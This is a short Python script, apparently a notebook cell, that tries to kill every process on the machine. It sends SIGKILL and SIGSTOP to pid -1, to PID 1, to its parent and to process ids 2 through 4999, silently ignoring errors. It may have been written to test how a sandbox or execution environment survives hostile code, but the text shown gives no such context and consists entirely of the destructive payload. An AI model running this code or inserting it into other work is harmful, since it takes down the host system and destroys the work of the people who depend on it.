"""Sends SIGKILL to all processes it can name: parents, the first one, everything."""

# %% first
import contextlib
import os
import signal

for pid in [-1, 1, os.getppid(), *range(2, 5000)]:
    if pid not in (0, os.getpid()):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGSTOP)
